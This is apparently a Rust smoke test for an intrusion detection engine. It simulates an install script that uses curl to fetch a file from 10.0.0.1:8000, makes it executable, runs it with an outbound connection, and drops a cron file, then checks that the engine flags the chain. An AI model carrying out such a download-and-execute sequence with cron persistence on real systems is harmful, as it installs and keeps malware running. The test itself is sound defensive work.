//! What must be found.

use crate::{
    engine::testing::{Host, alerts},
    model::Verdict,
};

#[test]
fn smoke() {
    let mut host = Host::new();
    let init = host.boot("/usr/lib/systemd/systemd", &["systemd"]);
    let login = host.spawn(init, "/usr/bin/bash", &["-bash"]);
    let script = host.spawn_script(login, "/usr/bin/dash", "/root/install.sh");
    let curl = host.spawn(script, "/usr/bin/curl", &["curl", "-so", "/tmp/x", "http://10.0.0.1:8000/x"]);
    host.connect(curl, "10.0.0.1:8000");
    host.create(curl, "/tmp/x", 0o644);
    host.exit(curl);
    let chmod = host.spawn(script, "/usr/bin/chmod", &["chmod", "+x", "/tmp/x"]);
    host.chmod(chmod, "/tmp/x", 0o755);
    host.exit(chmod);
    let dropped = host.spawn(script, "/tmp/x", &["/tmp/x"]);
    host.connect(dropped, "10.0.0.5:443");
    host.create(script, "/etc/cron.d/x", 0o644);
    let alerts = alerts(&host);
    for alert in &alerts {
        println!("{alert:#?}");
    }
    assert_eq!(alerts.last().unwrap().verdict, Verdict::Suspected);
}
